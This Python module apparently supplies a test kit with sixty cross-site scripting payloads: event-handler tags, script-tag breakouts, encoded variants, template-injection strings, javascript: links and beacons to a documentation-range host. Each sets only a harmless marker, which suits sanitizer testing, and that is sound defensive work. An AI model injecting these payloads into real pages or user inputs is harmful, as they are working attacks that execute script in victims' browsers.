"""Sixty pieces of markup and script that a text may hold; each sets `casekitRan` where a page lets it run."""

from __future__ import annotations

from typing import Final

__all__ = ["PAYLOADS"]

_RUN: Final = "top.casekitRan=1,window.casekitRan=1"
_EVENTS: Final = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("div style='animation:x 1s'", "onanimationstart"),
    ("button autofocus", "onfocus"),
    ("img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
)
_SCRIPTS: Final = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script/x>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext></p><script>{_RUN}</script>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{_RUN}'>\">",
    f"<svg><style><img src=x onerror='{_RUN}'></style>",
    f"<table><td background=x><img src=x onerror='{_RUN}'>",
    f"<img src=x onerror={_RUN}//",
    f"\"><img src=x onerror='{_RUN}'>",
    f'\'><img src=x onerror="{_RUN}">',
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f"`}}</script><script>{_RUN}</script>",
    f"';{_RUN};'",
    f'";{_RUN};"',
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
)
_LINKS: Final = (
    f"<a href=\"javascript:{_RUN}\" autofocus>x</a>",
    f"<iframe src=\"javascript:{_RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>{_RUN}</script>\"></iframe>",
    f"<object data=\"javascript:{_RUN}\"></object>",
    f"<embed src=\"javascript:{_RUN}\">",
    f"<form action=\"javascript:{_RUN}\"><button autofocus></form>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{_RUN}\">",
    f"<base href=\"javascript:{_RUN}//\">",
    f"[x](javascript:{_RUN})",
    f"![x](x\" onerror=\"{_RUN})",
    f"<a href=\"data:text/html,<script>{_RUN}</script>\">x</a>",
    "<img src=\"https://198.51.100.7/beacon.png\">",
    "<link rel=stylesheet href=\"https://198.51.100.7/x.css\">",
    "<style>@import 'https://198.51.100.7/y.css';</style>",
)  # fmt: skip
PAYLOADS: Final = (*(f'<{tag} {event}="{_RUN}">' for tag, event in _EVENTS), *_SCRIPTS, *_LINKS)
"""The payloads; those without a script ask something of another machine."""
